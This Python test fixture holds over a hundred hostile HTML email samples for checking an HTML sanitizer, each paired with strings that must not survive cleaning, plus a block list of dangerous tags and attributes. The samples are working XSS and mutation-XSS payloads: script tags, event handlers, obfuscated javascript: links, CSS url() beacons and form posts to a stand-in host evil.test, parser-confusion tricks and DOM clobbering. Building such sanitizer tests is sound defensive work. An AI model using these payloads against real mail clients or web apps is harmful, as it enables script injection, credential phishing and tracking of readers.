"""Hostile HTML mails, as attackers write them: each has what must not be in the document that is made of it, small and capital letters alike.

`http://evil.test` is whoever wants to know that a message was read, and must not be loaded by any of them; JavaScript says `pwn()`. What is in `ABSENT` must
be in none. Collected for these tests; the tricks are old and known: event handlers, schemes, CSS, foreign elements, parsers that disagree.
"""

from typing import NamedTuple

ABSENT = (
    "<script", "<svg", "<math", "<form", "<input", "<button", "<iframe", "<object", "<embed", "<link", "<base", "<video", "<audio", "<source",
    "<picture", "<template", "<noscript", "<textarea", "<select", "<frame", "<applet", "<xmp", "<plaintext", "<!--", "javascript:pwn",
    "vbscript:", "data:text", "data:application", "data:image/svg", "url(http", "@import", "@font-face", "position:", "expression(",
    "behavior:", "-moz-binding", "srcset=", "srcdoc=", "formaction=", " action=", " ping=", " poster=", " background=", "xlink:", 'http-equiv="refresh',
    " onerror=", " onload=", " onclick=", " autofocus", " contenteditable", 'src="http', 'src="//', "<image", "var(--", "image-set",
)  # fmt: skip


class Mail(NamedTuple):
    """A mail; `kept` is what its reader should still see."""

    name: str
    html: str
    absent: tuple[str, ...] = ()
    kept: str = ""


GET = "http://evil.test/x"
B = "\\"
MAILS = (
    # scripts and event handlers
    Mail("script", "<p>hi<script>pwn()</script>", ("pwn",), "<p>hi"),
    Mail("script with a src", f"<script src={GET}></script>", ("evil",)),
    Mail("script in two cases and spaces", "<ScRiPt\n>pwn()</sCrIpT >x", ("pwn",), "x"),
    Mail("script that is not closed", "a<script>pwn()", ("pwn",), "a"),
    Mail("script in a script", "<scr<script>ipt>pwn()</scr</script>ipt>", ("<scr",)),
    Mail("script with a slash", "<script/x>pwn()</script>", ("pwn",)),
    Mail("module and import map", f'<script type=importmap>{{"imports":{{"a":"{GET}"}}}}</script><script type=module>import "a"</script>', ("evil",)),
    Mail("speculation rules", f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{GET}"]}}]}}</script>', ("evil",)),
    Mail("onerror", "<img src=x onerror=pwn()>", ("pwn",)),
    Mail("onerror without a space", '<img/src="x"/onerror="pwn()">', ("pwn",)),
    Mail("onload of body", "<body onload=pwn()>hi", ("pwn",), "hi"),
    Mail("onfocus with autofocus", "<input onfocus=pwn() autofocus><a onfocus=pwn() autofocus tabindex=1>x</a>", ("pwn",), "x"),
    Mail("ontoggle", "<details open ontoggle=pwn()>x</details>", ("pwn",), "x"),
    Mail("onanimationstart", "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=pwn()>b</b>", ("pwn", "keyframes", "animation")),
    Mail("onpointerrawupdate and unknown events", "<p onpointerrawupdate=pwn() onfuture=pwn()>x", ("pwn",)),
    Mail("handler with control characters", "<img src=x on\x00error=pwn() onerror\x0b=pwn() \x0conerror=pwn()>", ("pwn",)),
    Mail("handler in an end tag", "<p>x</p onclick=pwn()>", ("pwn",), "x"),
    Mail("quotes that do not match", "<img alt=\"a' src=x onerror=pwn()//\" title='\">'<img src=x onerror=pwn()>'", ('onerror="pwn',)),
    Mail("backtick quotes", "<img src=`x` onerror=`pwn()`>", ("pwn",)),
    Mail("a tag in an attribute", '<a title="<img src=x onerror=pwn()>">x</a>', ('"<img',), "x"),
    # links
    Mail("javascript", "<a href=javascript:pwn()>x</a>", ("pwn",), "x"),
    Mail("javascript with tabs and newlines", "<a href='ja\tva\nscr\ript:pwn()'>x</a>", ("pwn",), "x"),
    Mail("javascript with references", "<a href='&#106;avascript&colon;pwn()'>x</a><a href='&#x6A&#x61vascript:pwn()'>y</a>", ("pwn",)),
    Mail("javascript behind control characters", "<a href='\x01\x02 javascript:pwn()'>x</a><a href='&#1;javascript:pwn()'>y</a>", ("pwn",)),
    Mail("javascript in capitals and Unicode", "<a href='JAVA\u017fCRIPT:pwn()'>x</a><a href='\u202ejavascript:pwn()'>y</a><a href='java\u00adscript:pwn()'>z</a>", ("pwn",)),
    Mail("vbscript and others", "<a href=vbscript:pwn()>a</a><a href=livescript:pwn()>b</a><a href=mocha:pwn()>c</a><a href=view-source:pwn()>d</a>", ("pwn",)),
    Mail("data of text/html", "<a href='data:text/html,<script>pwn()</script>'>x</a>", ("pwn",), "x"),
    Mail("data in base64", "<a href='data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg=='>x</a>", ("base64",), "x"),
    Mail("blob, filesystem and file", "<a href='blob:http://a/b'>x</a><a href='filesystem:http://a/b'>y</a><a href='file:///etc/passwd'>z</a>", ("blob:", "filesystem:", "file:")),
    Mail("ping", f"<a href=https://ok.test ping={GET}>x</a>", ("evil",), 'href="https://ok.test"'),
    Mail("download and target", "<a href=https://ok.test target=_top download rel=opener>x</a>", ("_top", "download", '"opener"'), 'rel="noopener'),
    Mail("a map", "<img usemap=#m src=cid:a><map name=m><area shape=default href=javascript:pwn()></map>", ("pwn", "<area", "usemap")),
    Mail("xlink:href", "<svg><a xlink:href='javascript:pwn()'><text>x</text></a></svg><a xlink:href=javascript:pwn()>y</a>", ("pwn",)),
    # what loads by itself
    Mail("meta refresh", f"<meta http-equiv=refresh content='0;url={GET}'>", ("evil",)),
    Mail("meta refresh to data", "<META HTTP-EQUIV='refresh' CONTENT='0;url=data:text/html,<script>pwn()</script>'>", ("pwn",)),
    Mail("a policy of its own", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><meta name=referrer content=unsafe-url>", ("unsafe-url", "script-src")),
    Mail("base", "<base href=http://evil.test/><img src=x.png><a href=x>y</a>", ("evil",), "y"),
    Mail("base of javascript", "<base href='javascript:/a/-pwn()//'><a href=#>x</a>", ("pwn",)),
    Mail("style sheet", f"<link rel=stylesheet href={GET}>", ("evil",)),
    Mail("hints", f"<link rel=dns-prefetch href=//evil.test><link rel=preconnect href={GET}><link rel=prefetch href={GET}><link rel=preload as=image href={GET}>", ("evil",)),
    Mail("icon and manifest", f"<link rel=icon href={GET}><link rel=manifest href={GET}>", ("evil",)),
    Mail("image", f"<img src={GET}>", ("evil",), "<img"),
    Mail("image without a scheme", "<img src=//evil.test/x><img src='\\\\evil.test\\x'><img src='/\\evil.test/x'>", ("evil",)),
    Mail("image with a broken scheme", "<img src='ht\ntp://evil.test/x'><img src=' \x01http:/evil.test/x'><img src='https:evil.test/x'>", ("evil",)),
    Mail("image of another scheme", "<img src='ftp://evil.test/x'><img src='ws://evil.test/x'><img src='jar:http://evil.test!/x'>", ("evil",)),
    Mail("srcset and picture", f"<img srcset='{GET} 2x'><picture><source srcset={GET}><img src={GET}></picture>", ("evil",)),
    Mail("old attributes of images", f"<img lowsrc={GET} dynsrc={GET} longdesc={GET} src=cid:a>", ("evil",)),
    Mail("image as data of SVG", "<img src='data:image/svg+xml,<svg onload=pwn() xmlns=\"http://www.w3.org/2000/svg\">'>", ("svg", "pwn")),
    Mail("the element image", f"<image src={GET} onerror=pwn()>", ("evil", "pwn")),
    Mail("pixel", f"<img src={GET} width=1 height=1><img src={GET} style='display:none'>", ("evil", "<img")),
    Mail("background of body and table", f"<body background={GET}><table background={GET}><tr><td background={GET}>x</table>", ("evil",), "x"),
    Mail("video and audio", f"<video poster={GET} src={GET} autoplay><track src={GET}></video><audio src={GET} autoplay></audio><bgsound src={GET}>", ("evil",)),
    Mail("frames", f"<iframe src={GET}></iframe><frameset><frame src={GET}></frameset><portal src={GET}></portal>", ("evil",)),
    Mail("srcdoc", "<iframe srcdoc='<script>pwn()</script>'></iframe>", ("pwn",)),
    Mail("object and embed", f"<object data={GET}></object><embed src={GET}><applet archive={GET} code=X></applet>", ("evil",)),
    Mail("object of its own data", "<object data='data:text/html,<script>pwn()</script>'></object><embed src='javascript:pwn()'>", ("pwn",)),
    Mail("xml data island", f"<xml src={GET} id=x></xml><?xml-stylesheet href='{GET}'?><!DOCTYPE x SYSTEM '{GET}'>", ("evil",)),
    Mail("conditional comment", f"<!--[if gte mso 9]><img src={GET}><script>pwn()</script><![endif]--><![if !mso]>x<![endif]>", ("evil", "pwn"), "x"),
    # forms
    Mail("form", f"<form action={GET}><input name=password type=password><input type=submit></form>", ("evil", "password")),
    Mail("form of javascript", "<form action=javascript:pwn()><button>x</button></form>", ("pwn",), "x"),
    Mail("formaction", f"<button formaction={GET} form=f>x</button><input type=image src={GET} formaction=javascript:pwn()>", ("evil", "pwn")),
    Mail("isindex and keygen", f"<isindex action={GET} type=image src={GET}><keygen autofocus onfocus=pwn()>", ("evil", "pwn")),
    Mail("select and options", "<select onfocus=pwn() autofocus><option>x</select>", ("pwn",)),
    # style sheets
    Mail("import", f"<style>@import '{GET}'; @import url({GET}); @\\69mport '{GET}';p{{color:red}}</style><p>x", ("evil", "import"), "color: red"),
    Mail("url in a style", f"<p style='background:url({GET})'>x", ("evil",), "x"),
    Mail("url with escapes", f"<p style='background:{B}75 rl({GET});background:u{B}72 l({GET})'>x<b style='background:ur{B}00006c({GET})'>y", ("evil",)),
    Mail("url with references", f"<p style='background:&#117;rl({GET})'>x<p style=\"background:url(&quot;{GET}&quot;)\">y", ("evil",)),
    Mail("url with comments and newlines", f"<p style='background:/**/url(/**/{GET});background:url(\n{GET}\n)'>x", ("evil",)),
    Mail("url that is not closed", f"<p style='background:url({GET}'>x<style>p{{background:url(\"{GET}</style>", ("evil",)),
    Mail("url without a scheme", "<p style='background:url(//evil.test/x)'>x<p style='background:URL(//evil.test/y)'>y", ("evil",)),
    Mail("image-set and cross-fade", f"<p style=\"background-image:image-set('{GET}' 1x);background:-webkit-image-set(url({GET}) 1x)\">x<p style='background:cross-fade(url({GET}),red)'>", ("evil",)),
    Mail("src(), image() and element()", f"<p style=\"background:src('{GET}');background:image('{GET}');background:-moz-element(#x)\">x", ("evil", "element(")),
    Mail("variables", f"<p style='--a:url({GET});background:var(--a)'>x<style>:root{{--b:url({GET})}}p{{background:var(--b)}}</style>", ("evil",)),
    Mail("content, cursor, list-style, border-image, mask, filter, shape", f"<p style='content:url({GET});cursor:url({GET}),auto;list-style:url({GET});border-image:url({GET});mask:url({GET});filter:url({GET}#a);shape-outside:url({GET});clip-path:url({GET}#b)'>x", ("evil",)),
    Mail("font-face", f"<style>@font-face{{font-family:x;src:url({GET});unicode-range:U+0041}}p{{font-family:x}}</style><p>A", ("evil",)),
    Mail("attribute selectors that tell", f"<style>input[value^='a']{{background:url({GET}?a)}} a[href*=token]{{background:url({GET})}}</style><a href='https://ok.test/?token=1'>x</a>", ("evil", "[value", "[href")),
    Mail("expression", "<p style='width:expression(pwn());width:e\\78pression(pwn());xss:exp/**/ression(pwn())'>x", ("pwn",)),
    Mail("behaviour and binding", f"<p style='behavior:url({GET});-moz-binding:url({GET}#x);-ms-behavior:url({GET})'>x", ("evil",)),
    Mail("javascript in CSS", "<p style='background:url(javascript:pwn());list-style-image:url(\"javascript:pwn()\")'>x<style>p{background:url('javascript:pwn()')}</style>", ("pwn",)),
    Mail("overlay", "<div style='position:fixed!important;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff'>your password has expired</div>", ("fixed", "z-index", "top:")),
    Mail("overlay by escapes and sheets", f"<style>.a{{p{B}6fsition:absolute}} .b{{transform:translate(-99px)}}</style><p class=a style='po{B}73ition:sticky'>x", ("absolute", "sticky", "transform")),
    Mail("out of the style element", "<style>p{color:red}</style foo><img src=x onerror=pwn()></style><p title='</style><img src=x onerror=pwn()>'>x", ('onerror=pwn()>"',)),
    Mail("end tag in a string of CSS", "<style>p{font-family:'</style><script>pwn()</script>'}</style>x", ("<script",), "x"),
    Mail("end tag by an escape of CSS", f"<style>p{{font-family:'{B}3c/style>{B}3cscript>pwn()'}}</style><p style=\"font-family:'{B}3c/p>{B}3cimg src=x onerror=pwn()>'\">x", ("pwn",)),
    Mail("html comments in CSS", f"<style><!-- @import '{GET}'; --></style><style>--></style>x", ("evil",), "x"),
    Mail("supports, layer, page, namespace, scope", f"<style>@supports (color:red){{p{{background:url({GET})}}}}@layer x{{p{{background:url({GET})}}}}@page{{background:url({GET})}}@namespace url({GET});@scope(p){{b{{background:url({GET})}}}}</style>", ("evil", "@supports")),
    Mail("nested rules", f"<style>p{{color:red;&:hover{{background:url({GET})}} b{{background:url({GET})}}}}</style><p>x", ("evil",)),
    Mail("media in media", f"<style>@media screen{{@media print{{p{{background:url({GET})}}}}@import '{GET}';p{{color:red}}}}</style>x", ("evil",)),
    # parsers that disagree
    Mail("svg", f"<svg onload=pwn()><script>pwn()</script><image href={GET} /><use href='data:image/svg+xml,x#a'/><feImage href={GET} /></svg>", ("pwn", "evil")),
    Mail("svg animation", "<svg><a><animate attributeName=href values=javascript:pwn() /><set attributeName=onmouseover to=pwn() /><text>x</text></a></svg>", ("pwn",)),
    Mail("foreignObject", "<svg><foreignObject><p>x<img src=x onerror=pwn()></foreignObject></svg>y", ("pwn",), "y"),
    Mail("math and mglyph", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwn()&gt;'>", ('onerror="pwn',)),
    Mail("math of a link", "<math><maction actiontype=statusline xlink:href=javascript:pwn()>x</maction><mi href=javascript:pwn()>y</math>", ("pwn",)),
    Mail("svg with a style in it", "<svg></p><style><a id='</style><img src=1 onerror=pwn()>'>", ()),
    Mail("annotation-xml", "<math><annotation-xml encoding='text/html'><style><img src=x onerror=pwn()></style></annotation-xml></math>", ("pwn",)),
    Mail("noscript", "<noscript><p title='</noscript><img src=x onerror=pwn()>'></noscript>", ("<p title",)),
    Mail("noscript with a style", "<noscript><style></noscript><img src=x onerror=pwn()></style></noscript>x", ()),
    Mail("template", f"<template><img src={GET} onerror=pwn()><script>pwn()</script></template>x", ("evil", "pwn"), "x"),
    Mail("declarative shadow", f"<div><template shadowrootmode=open><style>@import '{GET}'</style><script>pwn()</script></template>x</div>", ("evil", "pwn", "shadow")),
    Mail("textarea and title", "<textarea><img title='</textarea><img src=x onerror=pwn()>'></textarea><title><a id='</title><img src=x onerror=pwn()>'></title>", ()),
    Mail("xmp, listing, plaintext", "<xmp><p title='</xmp><img src=x onerror=pwn()>'></xmp><listing>&lt;img src=x onerror=pwn()&gt;</listing><plaintext><script>pwn()</script>", ("<script",)),
    Mail("noembed and noframes", "<noembed><p title='</noembed><img src=x onerror=pwn()>'></noembed><noframes><p title='</noframes><img src=x onerror=pwn()>'></noframes>", ()),
    Mail("comments that end early", "<!--><img src=x onerror=pwn()>--><!---><img src=x onerror=pwn()>--><!--a--!><img src=x onerror=pwn()>-->", ("pwn",)),
    Mail("cdata", "<svg><![CDATA[><img src=x onerror=pwn()>]]></svg><![CDATA[><img src=x onerror=pwn()>]]>", ("pwn",)),
    Mail("processing instructions", "<?php <img src=x onerror=pwn()> ?><%<img src=x onerror=pwn()>%></ <img src=x onerror=pwn()>>", ("pwn",)),
    Mail("nested forms", "<form><div></form><form><img src=x onerror=pwn()><input name=innerHTML></form>", ("pwn",)),
    Mail("tables that let out", "<table><td><form><input></td><script>pwn()</script><style>p{color:red}</style><img src=x onerror=pwn()><tr><svg><script>pwn()", ("pwn",)),
    Mail("select lets out", "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=pwn()>'>", ("<a rel='",)),
    Mail("links in links", "<a href=https://ok.test><table><a href=javascript:pwn()>x</a></table></a>", ("pwn",)),
    Mail("null and broken UTF-8", "<scr\x00ipt>pwn()</scr\x00ipt><img src=x\x00 onerror\x00=pwn()>\ud800", ("onerror=",)),
    Mail("other charsets", "+ADw-script+AD4-pwn()+ADw-/script+AD4- \u00bcscript\u00bepwn()\u00bc/script\u00be", ("<script",)),
    Mail("line separators", "<img\u2028src=x\u2029onerror=pwn()><a href='java\u2028script:pwn()'>x</a>", ("pwn",)),
    # names that stand in the way
    Mail("clobbering ids", "<a id=location href=https://ok.test>x</a><img name=cookie id=getElementById><p id=__proto__ name=body>y", ('id="location"', 'name="', 'id="getelementbyid"', 'id="__proto__"')),
    Mail("clobbering forms", "<form id=document><input id=attributes><input name=parentNode></form><a id=a></a><a id=a name=b href=cid:x></a>", ('id="document"', 'id="attributes"', 'name="')),
    Mail("editable, draggable, popover", "<div contenteditable draggable=true accesskey=x popover id=p tabindex=0 is=x slot=y part=z itemscope>x</div>", ("draggable", "popover", "accesskey", " is=", "tabindex")),
    Mail("a document in the document", "<!DOCTYPE html><html manifest=http://evil.test/m><head profile=http://evil.test/p><title>x</title></head><body>y</body></html>", ("evil", "manifest"), "y"),
    Mail("deep nesting", "<b>" * 5000 + "x" + "<div><font size=1></div>" * 3000, ()),
    Mail("many attributes", "<p " + " ".join(f"a{n}=1 onx{n}=pwn()" for n in range(5000)) + ">x", ("pwn",), "x"),
)  # fmt: skip
